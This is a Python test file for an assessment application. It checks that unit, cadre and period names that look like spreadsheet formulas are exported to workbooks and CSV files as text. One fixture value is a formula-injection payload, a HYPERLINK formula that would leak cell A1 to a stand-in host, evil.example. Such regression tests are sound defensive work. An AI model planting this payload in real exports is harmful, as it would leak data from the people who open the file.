"""Formula injection (issue 11, item 8): names that start like a formula stay text.

A unit named ``=HYPERLINK(...)`` came out as a live formula in the three workbooks
officials download. Every .xlsx and .csv the product writes now keeps such text as text
(a string cell; a leading ``'`` in CSV), and numbers as numbers; the open-data bundle's
recompute still reproduces ``results.csv`` byte for byte.
"""

from __future__ import annotations

import csv
import doctest
import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from assessment.app.db import db, unit_of_work
from assessment.core import cells
from assessment.core.cells import csv_cell, decode_csv, is_formula_text, read_csv_cell, write_csv
from assessment.models import Cadre, Period, Unit
from assessment.services.demo import seed_demo
from reports.core.bundle import read_csv, read_zip
from reports.recompute import check_bundle

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLUS = "+1"
AT = "@SUM(A1:A9)"
MINUS_CODE = "-QS012"
PERIOD_NAME = "=1+1"
DANGEROUS = {LINK, PLUS, AT, MINUS_CODE, PERIOD_NAME}


@pytest.fixture
def demo(app):
    """The demo township with a unit, cadres and the period named like formulas."""
    with app.app_context(), unit_of_work(None, reason="test fixture"):
        counts = seed_demo(db.session)
        township = db.session.scalars(sa.select(Unit).where(Unit.code == "QSZ")).one()
        township.name_zh = township.name_en = LINK
        for code, name in (("QS009", PLUS), ("QS010", AT)):
            db.session.scalars(sa.select(Cadre).where(Cadre.code == code)).one().name = name
        db.session.scalars(sa.select(Cadre).where(Cadre.code == "QS012")).one().code = MINUS_CODE
        db.session.get(Period, 1).name = PERIOD_NAME
    return counts


def test_docstring_examples():
    failures, tried = doctest.testmod(cells)
    assert (failures, tried >= 4) == (0, True)


@pytest.mark.parametrize("value", [*DANGEROUS, "\tx", "\rx", "-", "=", "'=x", "''"])
def test_csv_cells_keep_formula_text_as_text_and_read_back_exactly(value):
    written = csv_cell(value)
    assert isinstance(written, str) and written.startswith("'")
    assert read_csv_cell(written) == value


@pytest.mark.parametrize("value", [-1.5, 3, "-1.5", "-0.000001", "1e-05", "66.66666666666667"])
def test_numbers_stay_numbers(value):
    assert not is_formula_text(value)
    assert csv_cell(value) == value


def test_write_csv_quotes_where_csv_needs_it_after_the_guard():
    written = write_csv(("name", "n"), [("=A1,B1", -2), ("王", 1.5)])
    assert list(csv.reader(io.StringIO(written))) == [
        ["name", "n"],
        ["'=A1,B1", "-2"],
        ["王", "1.5"],
    ]


def _formula_free(data: bytes) -> load_workbook:
    """The workbook, after checking that no sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return load_workbook(io.BytesIO(data))


def _text_cells(book) -> dict[str, tuple[str, bool]]:
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in DANGEROUS:
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    return found


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/admin/overview/overview.xlsx", {LINK, PERIOD_NAME}),
        ("/admin/overview/periods/1.xlsx", {LINK, PLUS, AT, MINUS_CODE, PERIOD_NAME}),
        ("/admin/overview/compare.xlsx?period=1", {LINK, PLUS, AT, MINUS_CODE, PERIOD_NAME}),
    ],
)
def test_every_workbook_keeps_formula_like_names_as_text(
    client, auth, computed_period, path, expected
):
    auth.login("official")
    response = client.get(path)
    assert response.status_code == 200
    book = _formula_free(response.data)
    found = _text_cells(book)
    assert set(found) == expected
    assert set(found.values()) == {("s", True)}
    # numbers are still numbers
    sheet = book.worksheets[0]
    assert any(isinstance(c.value, float) for row in sheet.iter_rows() for c in row)


def test_the_results_template_keeps_a_code_starting_with_minus_as_text(
    app, client, auth, published_rulebook, make
):
    from assessment.services.periods import advance_period

    make(lambda s: advance_period(s, s.get(Period, published_rulebook), "collecting"))
    auth.login("admin")
    response = client.get(f"/admin/periods/{published_rulebook}/quantitative/template.xlsx")
    book = _formula_free(response.data)
    codes = {row[0].value for row in book.worksheets[0].iter_rows(min_row=2)}
    assert MINUS_CODE in codes and "QS001" in codes
    assert _text_cells(book)[MINUS_CODE] == ("s", True)


def test_the_open_data_bundle_quotes_names_and_still_recomputes_exactly(
    client, auth, computed_period
):
    auth.login("admin")
    response = client.get(f"/admin/periods/{computed_period}/open-data.zip")
    assert response.status_code == 200
    files = {name.rsplit("/", 1)[-1]: data for name, data in read_zip(response.data).items()}
    raw_cadres = list(csv.DictReader(io.StringIO(decode_csv(files["cadres.csv"]))))
    assert {r["name"] for r in raw_cadres} >= {"'" + PLUS, "'" + AT}
    assert "'" + MINUS_CODE in {r["code"] for r in raw_cadres}
    results = list(csv.DictReader(io.StringIO(decode_csv(files["results.csv"]))))
    assert {r["name"] for r in results} >= {"'" + PLUS, "'" + AT}
    # totals are numbers, never quoted
    assert all(not r["total"].startswith("'") for r in results)
    units = list(csv.DictReader(io.StringIO(decode_csv(files["units.csv"]))))
    assert "'" + LINK in {r["name"] for r in units}
    # the bundle's own reader gives the names back as stored
    assert {r["name"] for r in read_csv("cadres.csv", decode_csv(files["cadres.csv"]))} >= {
        PLUS,
        AT,
    }
    report = check_bundle(response.data)
    assert report.ok, (report.error, report.differing[:3])
    assert report.results == decode_csv(files["results.csv"])
